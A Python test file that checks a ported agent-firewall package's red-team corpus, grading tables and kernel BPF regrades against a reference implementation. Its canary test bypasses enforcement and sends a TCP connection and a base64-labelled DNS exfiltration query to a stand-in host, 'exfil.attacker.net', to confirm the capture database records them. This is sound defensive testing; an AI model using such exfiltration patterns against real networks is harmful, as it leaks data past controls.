"""The port's capture-graded red-team corpus against the reference's.

Twins of tests/test_redteam.py, in two tiers.

Tier A runs anywhere: the 35 technique names and their order, the
grading tables, the canary, and the whole corpus through each package's
``World`` with the kernel regrade off on both sides (``kernel_regrade``
patched to ``None`` in each package's ``redteam``), so nothing is
written under ``/sys``.  Each side runs after the other, and the two
scorecards are compared after masking only what a run cannot repeat
(``tests/test_torch_parity.py``'s ``mask``).

Tier B writes under ``/sys`` (a scratch cgroup, verifier-loaded
programs) and is gated, as tests/test_torch_bpf_live.py is, by the
reference's own probe: ``kernel_regrade`` on each side in a
``LiveSandbox`` of its own (``redteam-twin-<side>-<pid>``), and the
forked ``python -m clawker_tpu.parity --json`` against ``python -m
clawker_tpu_torch.parity --json``.

Every ``World`` here, in this process and in the forked scorecards,
starts its DNS gate on a port free for TCP
(``test_torch_parity.free_gate_ports``): a forked scorecard starts 57
worlds, and on port 0 any of them can lose the gate's TCP bind to
another socket of the host (ROADMAP §3 item 16).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

pytest.importorskip("cryptography")

import clawker_tpu.firewall.bpfkern as ref_bpfkern  # noqa: E402
import clawker_tpu.parity.redteam as ref_R  # noqa: E402
import clawker_tpu.parity.world as ref_W  # noqa: E402
import clawker_tpu_torch.parity.redteam as port_R  # noqa: E402
import clawker_tpu_torch.parity.world as port_W  # noqa: E402
from test_torch_parity import (ITEM16, free_gate_ports, item16,  # noqa: E402
                               mask)

ROOT = Path(__file__).resolve().parent.parent
# ``python -m <pkg>.parity`` with the gates on free ports (argv after -c)
FORKED = ("import runpy, sys; sys.path.insert(0, {tests!r}); "
          "import test_torch_parity; "
          "test_torch_parity.free_gate_ports({pkg!r}); "
          "runpy.run_module({pkg!r} + '.parity', run_name='__main__', "
          "alter_sys=True)")
SIDES = (("ref", ref_R, ref_W), ("port", port_R, port_W))
NAMES = [n for n, _ in ref_R.TECHNIQUES]

live = pytest.mark.skipif(not ref_bpfkern.kernel_available(),
                          reason="bpf(2)/cgroup-v2 unavailable")


@pytest.fixture(autouse=True)
def _free_gates(monkeypatch):
    for pkg in ("clawker_tpu", "clawker_tpu_torch"):
        free_gate_ports(pkg, monkeypatch.setattr)


def test_corpus_names_and_order_are_the_references():
    """30 reference classes and 5 beyond them, in the reference's order."""
    assert [n for n, _ in port_R.TECHNIQUES] == NAMES
    assert len(NAMES) == 35 and len(set(NAMES)) == 35


def test_grading_tables_are_the_references():
    assert port_R.TWIN_GRADED == ref_R.TWIN_GRADED
    assert port_R.MIXED_GRADED == ref_R.MIXED_GRADED
    assert [port_R.grading_of(n) for n in NAMES] == [
        ref_R.grading_of(n) for n in NAMES]
    assert sum(1 for n in NAMES if port_R.grading_of(n) == "socket") >= 28


def test_corpus_without_kernel_regrade_matches_reference(monkeypatch,
                                                         tmp_path):
    """35/35 and 0 captures on each side, the scorecards equal."""
    docs = {}
    for side, R, _ in SIDES:
        monkeypatch.setattr(R, "kernel_regrade", lambda *a, **k: None)
        base = tmp_path / side
        doc = R.run_corpus(base)
        failing = [t for t in doc["techniques"] if not t["pass"]]
        assert not any(item16(t) for t in failing), f"{side}: {ITEM16}"
        assert doc["total"] == 35 and doc["captures"] == 0 and not failing, (
            f"{side} escapes: {failing}\ncaptures: {doc['capture_rows']}")
        assert doc["kernel_regrade_available"] is False
        docs[side] = mask(doc, base)
    assert docs["port"] == docs["ref"]


def _canary(R, W, base: Path) -> list:
    """tests/test_redteam.py's canary on one package: enforcement
    bypassed, a TCP reach and a DNS exfil name must land in the capture
    DB; -> the capture rows, sorted."""
    w = R.build_world(base)
    try:
        w.maps.set_bypass(W.CG_AGENT, int(time.time()) + 300)
        ip = w.dns_table["exfil.attacker.net"]
        sock = w.open_tcp(ip, 443, technique="canary")
        sock.close()
        time.sleep(0.2)
        assert w.attacker.store.count("canary") >= 1
        # DNS exfil is also visible: a bypassed resolver leaks the query
        w.dig("aGVsbG8.exfil.attacker.net")
        assert w.attacker.store.count() >= 2
        return sorted(w.attacker.store.all())
    finally:
        w.close()


def test_canary_captures_as_reference(tmp_path):
    """With enforcement bypassed both packages' worlds capture, and the
    same rows: a zero-capture run means something on each."""
    rows = {side: _canary(R, W, tmp_path / side) for side, R, W in SIDES}
    assert rows["port"] == rows["ref"]


# ------------------------------------------------------------------ tier B

def unskipped(graded: dict, skipped: set) -> dict:
    """A regrade with the techniques in ``skipped`` cut to their
    ``pass``: a skip (``29-udp-reply-spoof`` when another process holds
    127.0.0.1:53) is the host's, not a verdict, and never flips a
    grade, so a skip on either side is held only to passing."""
    return {k: {"pass": v["pass"]} if k in skipped else v
            for k, v in graded.items()}


def skipped_in(graded: dict) -> set:
    return {k for k, v in graded.items() if v.get("skipped")}


@live
def test_kernel_regrade_verdicts_match_reference():
    """Each side's regrade in a sandbox of its own: the same techniques,
    every one passing, the same details once ports are masked."""
    got = {}
    for side, R, _ in SIDES:
        graded = R.kernel_regrade(f"redteam-twin-{side}-{os.getpid()}")
        assert graded is not None, side
        for name in R.TWIN_GRADED | {"12-v4mapped-attacker"}:
            assert name in graded, f"{side}: {name} not kernel-regraded"
            assert graded[name]["pass"], (side, graded[name])
        got[side] = mask(graded, ROOT)
    skipped = skipped_in(got["ref"]) | skipped_in(got["port"])
    assert unskipped(got["port"], skipped) == unskipped(got["ref"], skipped)


@live
def test_forked_scorecard_matches_reference(tmp_path):
    """``python -m <package>.parity --json`` forked for each package, as
    CI runs it: both exit 0 and the scorecards are equal once masked."""
    docs = {}
    for side, pkg in (("ref", "clawker_tpu"), ("port", "clawker_tpu_torch")):
        work = tmp_path / side
        proc = subprocess.run(
            [sys.executable, "-c",
             FORKED.format(tests=str(ROOT / "tests"), pkg=pkg), "--json",
             "--workdir", str(work)], cwd=ROOT, capture_output=True,
            text=True, timeout=300, env=dict(os.environ, JAX_PLATFORMS="cpu"))
        lines = proc.stdout.strip().splitlines()
        doc = json.loads(lines[-1]) if lines and lines[-1][:1] == "{" else {}
        failing = [r for r in doc.get("scenarios", []) if not r["pass"]] + [
            t for t in doc.get("redteam", {}).get("techniques", [])
            if not t["pass"]]
        assert proc.returncode == 0, (side, failing or proc.stdout[-3000:],
                                      proc.stderr[-3000:])
        assert doc["passed"] == doc["total"] == 22, side
        assert doc["redteam"]["passed"] == doc["redteam"]["total"] == 35
        assert doc["redteam"]["captures"] == 0, side
        docs[side] = mask(doc, work)
    regrades = {side: {t["technique"]: t["kernel_regrade"]
                       for t in doc["redteam"]["techniques"]
                       if "kernel_regrade" in t}
                for side, doc in docs.items()}
    skipped = skipped_in(regrades["ref"]) | skipped_in(regrades["port"])
    for side, doc in docs.items():
        for t in doc["redteam"]["techniques"]:
            if t["technique"] in skipped:
                t["kernel_regrade"] = {"pass": t["kernel_regrade"]["pass"]}
    assert docs["port"] == docs["ref"]
